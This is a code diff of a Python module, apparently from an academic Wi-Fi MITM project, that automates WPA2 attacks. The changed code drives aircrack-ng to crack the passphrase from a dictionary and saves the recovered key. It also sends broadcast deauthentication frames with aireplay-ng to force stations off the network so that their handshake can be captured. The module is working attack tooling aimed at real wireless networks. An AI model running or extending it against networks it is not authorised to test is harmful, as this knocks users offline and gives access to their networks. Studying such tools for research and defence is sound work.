@@ -13,9 +13,8 @@ Martin Vondracek
 - Feedback from running subprocesses is obtained from their stdout and stderr. Method Popen.communicate() is
   unfortunately not suitable. 'Read data from stdout and stderr, until end-of-file is reached. Wait for process
   to terminate.'
-  Reading of stdout and stderr is done continuously while the subprocess is running. This is achieved by that
-  the subprocess is writing its stdout and stderr to temporary files. These files are then opened again and continuous
-  writing and reading is performed. There's only one writer and one reader per file.
+  Reading of stdout and stderr is done continuously while the subprocess is running. The subprocess writes its stdout
+  and stderr to pipes, newly available complete lines are drained from the non-blocking read ends on every update.
 - Subprocesses' feedback result is available as an update of process' state, flags and stats. State describes current
   position in a lifecycle of the process. Flags can be set or cleared based on events during life of the process.
   Flags can be later cleared or set by other parts of the script - after the flag was recognised and appropriate
@@ -35,7 +34,7 @@ import pkg_resources
 
 from .model import WirelessAccessPoint, WirelessInterface
 from .updatableProcess import UpdatableProcess
-from .common import WirelessCapturer, deauthenticate, WifimitmError
+from .common import WirelessCapturer, deauthenticate_many, WifimitmError
 
 __author__ = 'Martin Vondracek'
 __email__ = 'xvondr20@stud.fit.vutbr.cz'
@@ -120,25 +119,23 @@ class Wpa2Cracker(UpdatableProcess):
         self.poll()
 
         # check every added line in stdout
-        if self.stdout_r and not self.stdout_r.closed:
-            for line in self.stdout_r:
-                if 'Failed. Next try with' in line:
-                    if self.state != self.State.TERMINATED:
-                        self.state = self.State.CRACKING
-                if 'KEY FOUND!' in line:
-                    if self.state != self.State.TERMINATED:
-                        self.state = self.State.CRACKING
-                    self.ap.save_psk_file(os.path.join(self.tmp_dir.name, 'psk.ascii'))
-                    logger.debug('Wpa2Cracker found key!')
-                if 'Passphrase not in dictionary' in line:
-                    logger.debug('Passphrase not in dictionary.')
-                    raise PassphraseNotInDictionaryError()
+        for line in self.stdout_lines():
+            if 'Failed. Next try with' in line:
+                if self.state != self.State.TERMINATED:
+                    self.state = self.State.CRACKING
+            if 'KEY FOUND!' in line:
+                if self.state != self.State.TERMINATED:
+                    self.state = self.State.CRACKING
+                self.ap.save_psk_file(os.path.join(self.tmp_dir.name, 'psk.ascii'))
+                logger.debug('Wpa2Cracker found key!')
+            if 'Passphrase not in dictionary' in line:
+                logger.debug('Passphrase not in dictionary.')
+                raise PassphraseNotInDictionaryError()
 
         # check stderr
-        if self.stderr_r and not self.stderr_r.closed:
-            for line in self.stderr_r:  # type: str
-                # NOTE: stderr should be empty
-                logger.warning("Unexpected stderr of 'aircrack-ng': '{}'. {}".format(line, str(self)))
+        for line in self.stderr_lines():  # type: str
+            # NOTE: stderr should be empty
+            logger.warning("Unexpected stderr of 'aircrack-ng': '{}'. {}".format(line, str(self)))
 
         # Change state if process was not running in the time of poll() call in the beginning of this method.
         # NOTE: Process' poll() needs to be called in the beginning of this method and returncode checked in the end
@@ -210,15 +207,17 @@ class Wpa2Attacker(object):
                             tmp_ap = capturer.get_capture_result()[0]
                             if len(tmp_ap.associated_stations) == 0:
                                 logger.info('Network is empty.')
-                            # deauthenticate stations to acquire WPA handshake
-                            for st in tmp_ap.associated_stations:
-                                deauthenticate(self.monitoring_interface, st)
-                                time.sleep(2)
-                                capturer.update()
-                                if capturer.flags['detected_wpa_handshake']:
-                                    break
+                            # deauthenticate stations to acquire WPA handshake; one broadcast series covers
+                            # all associated stations with a single aireplay-ng spawn
+                            deauthenticate_many(self.monitoring_interface, tmp_ap.associated_stations)
+                            time.sleep(2)
+                            capturer.update()
                         else:
                             logger.info('Network not detected by capturer yet.')
+                    # wpaclean extracts the handshake in the background, wait until the file is available
+                    while not capturer.wpa_handshake_cap_path:
+                        time.sleep(0.1)
+                        capturer.update()
                     self.ap.save_wpa_handshake_cap(capturer.wpa_handshake_cap_path)
                     logger.info('WPA handshake detected.')
 